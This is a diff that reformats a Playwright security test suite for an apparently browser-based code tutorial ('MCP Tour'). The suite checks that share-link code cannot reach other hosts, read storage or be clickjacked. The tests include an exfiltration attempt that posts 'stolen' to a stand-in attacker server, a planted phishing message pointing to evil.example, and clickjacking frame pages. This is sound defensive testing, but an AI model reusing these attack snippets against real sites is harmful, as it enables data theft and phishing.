@@ -24,7 +24,10 @@ async function startAttacker(): Promise<Attacker> {
     note(request);
     const page = pages.get(request.url ?? '');
     if (page) response.writeHead(200, { 'Content-Type': 'text/html' }).end(page);
-    else response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('self.stolen = true;');
+    else
+      response
+        .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' })
+        .end('self.stolen = true;');
   });
   server.on('upgrade', (request, socket) => {
     note(request);
@@ -78,7 +81,9 @@ async function openAndRun(page: Page, url: string): Promise<void> {
 }
 
 test.describe('code from a share link', () => {
-  test('reaches no other host: fetch, XHR, WebSocket, EventSource, import(), Worker and importScripts are refused with a clear message', async ({ page }) => {
+  test('reaches no other host: fetch, XHR, WebSocket, EventSource, import(), Worker and importScripts are refused with a clear message', async ({
+    page,
+  }) => {
     const target = attacker.origin;
     const code = attempts({
       fetch: `await fetch('${target}/fetch', { method: 'POST', body: 'stolen' });`,
@@ -92,14 +97,20 @@ test.describe('code from a share link', () => {
     await openAndRun(page, shareLink(code));
     const console = region(page, 'Console');
     await expect(console).toContainText('attempts done');
-    await expect(console).toContainText(`fetch: blocked: MCP Tour runs code offline: fetch to ${target}/fetch is not available.`);
+    await expect(console).toContainText(
+      `fetch: blocked: MCP Tour runs code offline: fetch to ${target}/fetch is not available.`,
+    );
     await expect(console).toContainText('Every API and HTTP link in the tour is in the page');
-    for (const name of ['xhr', 'websocket', 'eventsource', 'import()', 'worker', 'importScripts']) await expect(console).toContainText(`${name}: blocked:`);
+    for (const name of ['xhr', 'websocket', 'eventsource', 'import()', 'worker', 'importScripts'])
+      await expect(console).toContainText(`${name}: blocked:`);
     await expect(console).not.toContainText('reached');
     expect(attacker.requests).toEqual([]);
   });
 
-  test('cannot read or plant anything in the site’s storage, and an edited lesson comes back as written', async ({ page, context }) => {
+  test('cannot read or plant anything in the site’s storage, and an edited lesson comes back as written', async ({
+    page,
+    context,
+  }) => {
     await withoutMonaco(page);
     await page.goto(LESSON_1);
     const token = 'glpat-learnerPastedThis123';
@@ -119,7 +130,9 @@ test.describe('code from a share link', () => {
     await run(attack);
     const attackConsole = region(attack, 'Console');
     await expect(attackConsole).toContainText('attempts done');
-    await expect(attackConsole).toContainText('caches: blocked: MCP Tour runs code offline: caches (storage) is not available.');
+    await expect(attackConsole).toContainText(
+      'caches: blocked: MCP Tour runs code offline: caches (storage) is not available.',
+    );
     await expect(attackConsole).not.toContainText('reached');
     await attack.close();
 
@@ -132,11 +145,16 @@ test.describe('code from a share link', () => {
     expect(await page.evaluate(() => caches.keys())).toEqual([]);
   });
 
-  test('type answers an earlier version kept in Cache Storage (where planted entries could hide) are deleted', async ({ page }) => {
+  test('type answers an earlier version kept in Cache Storage (where planted entries could hide) are deleted', async ({
+    page,
+  }) => {
     await page.goto('/');
     await page.evaluate(async () => {
       const cache = await caches.open('mcp-tour-editor-types');
-      await cache.put('/__mcp-tour-editor-types/v1/planted', new Response('{"diagnostics":[{"messageText":"your session expired, log in at https://evil.example"}]}'));
+      await cache.put(
+        '/__mcp-tour-editor-types/v1/planted',
+        new Response('{"diagnostics":[{"messageText":"your session expired, log in at https://evil.example"}]}'),
+      );
     });
     await page.goto(LESSON_1);
     // The editor's types worker starts once Run is usable and clears what earlier versions kept.
@@ -191,7 +209,9 @@ captured?.postMessage({ type: 'done', status: 'ok' });
 });
 
 test.describe('what a program sends is checked again by the page', () => {
-  test('an event a program slips into the runtime’s output is validated like any other: a malformed one is dropped', async ({ page }) => {
+  test('an event a program slips into the runtime’s output is validated like any other: a malformed one is dropped', async ({
+    page,
+  }) => {
     // Array.prototype.push is shared with the runtime in the Worker: the program adds an LLM
     // context entry of type "tools" without its tools into the runtime's outgoing batch.
     const code = `const push = Array.prototype.push;
@@ -235,7 +255,9 @@ console.log('still here');
 test.describe('embeds and framing', () => {
   test('an autorun embed opened as a top-level page does not run until the reader clicks Run', async ({ page }) => {
     await withoutMonaco(page);
-    await page.goto(`/embed/playground/?autorun=1#code/${LZString.compressToEncodedURIComponent("console.log('ran without a click');\n")}`);
+    await page.goto(
+      `/embed/playground/?autorun=1#code/${LZString.compressToEncodedURIComponent("console.log('ran without a click');\n")}`,
+    );
     await expect(runButton(page)).toBeEnabled();
     // Autorun fires as the runner becomes ready, in the same update that enables Run.
     await expect(page.getByText(/^Finished in/)).toHaveCount(0);
@@ -244,7 +266,11 @@ test.describe('embeds and framing', () => {
     await expect(page.getByRole('region', { name: 'Console' })).toContainText('ran without a click');
   });
 
-  test('pages send a Content-Security-Policy; only embeds may be framed by another site', async ({ page, request, baseURL }) => {
+  test('pages send a Content-Security-Policy; only embeds may be framed by another site', async ({
+    page,
+    request,
+    baseURL,
+  }) => {
     const lesson = await request.get(LESSON_1);
     const lessonPolicy = lesson.headers()['content-security-policy'];
     expect(lessonPolicy).toContain("frame-ancestors 'none'");
@@ -260,7 +286,10 @@ test.describe('embeds and framing', () => {
     // The same policy as a <meta>, for hosts that send no headers.
     await withoutMonaco(page);
     await page.goto(LESSON_1);
-    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', /connect-src 'self'/);
+    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
+      'content',
+      /connect-src 'self'/,
+    );
 
     // A page of another site frames the lesson (to click Reset through an invisible frame) and an embed.
     attacker.pages.set(
@@ -269,26 +298,47 @@ test.describe('embeds and framing', () => {
     );
     await page.goto(`${attacker.origin}/clickjack.html`);
     await expect(page.frameLocator('#embed').getByRole('button', { name: 'Run', exact: true })).toBeVisible();
-    await expect.poll(() => page.frames().find((frame) => frame.url().includes('chrome-error') || frame.url().includes(LESSON_1))?.url()).toMatch(/^chrome-error:/);
+    await expect
+      .poll(() =>
+        page
+          .frames()
+          .find((frame) => frame.url().includes('chrome-error') || frame.url().includes(LESSON_1))
+          ?.url(),
+      )
+      .toMatch(/^chrome-error:/);
   });
 });
 
-test('on a host that sends no headers, a lesson in another site’s frame shows a link instead of the app', async ({ page, baseURL }) => {
+test('on a host that sends no headers, a lesson in another site’s frame shows a link instead of the app', async ({
+  page,
+  baseURL,
+}) => {
   // GitHub Pages sends no headers: strip them, as such a host would serve the page.
   await page.route(`${baseURL}${LESSON_1}`, async (route) => {
     const response = await route.fetch();
-    const headers = Object.fromEntries(Object.entries(response.headers()).filter(([name]) => !/^(content-security-policy|x-frame-options)$/i.test(name)));
+    const headers = Object.fromEntries(
+      Object.entries(response.headers()).filter(([name]) => !/^(content-security-policy|x-frame-options)$/i.test(name)),
+    );
     await route.fulfill({ response, headers });
   });
-  attacker.pages.set('/frame-lesson.html', `<iframe id="lesson" src="${baseURL}${LESSON_1}" style="width: 800px; height: 400px"></iframe>`);
+  attacker.pages.set(
+    '/frame-lesson.html',
+    `<iframe id="lesson" src="${baseURL}${LESSON_1}" style="width: 800px; height: 400px"></iframe>`,
+  );
   await page.goto(`${attacker.origin}/frame-lesson.html`);
   const framed = page.frameLocator('#lesson');
   await expect(framed.getByRole('link', { name: 'Open MCP Tour in its own tab' })).toBeVisible();
   await expect(framed.getByRole('button', { name: 'Reset', exact: true })).toHaveCount(0);
 });
 
-test('an embed in a frame sandboxed without allow-same-origin says what to change instead of staying blank', async ({ page, baseURL }) => {
-  attacker.pages.set('/sandboxed-embed.html', `<iframe id="embed" sandbox="allow-scripts" src="${baseURL}/embed/host-client-server/" style="width: 700px; height: 300px"></iframe>`);
+test('an embed in a frame sandboxed without allow-same-origin says what to change instead of staying blank', async ({
+  page,
+  baseURL,
+}) => {
+  attacker.pages.set(
+    '/sandboxed-embed.html',
+    `<iframe id="embed" sandbox="allow-scripts" src="${baseURL}/embed/host-client-server/" style="width: 700px; height: 300px"></iframe>`,
+  );
   await page.goto(`${attacker.origin}/sandboxed-embed.html`);
   const embed = page.frameLocator('#embed');
   await expect(embed.getByText(/cannot run in a frame sandboxed without allow-same-origin/)).toBeVisible();
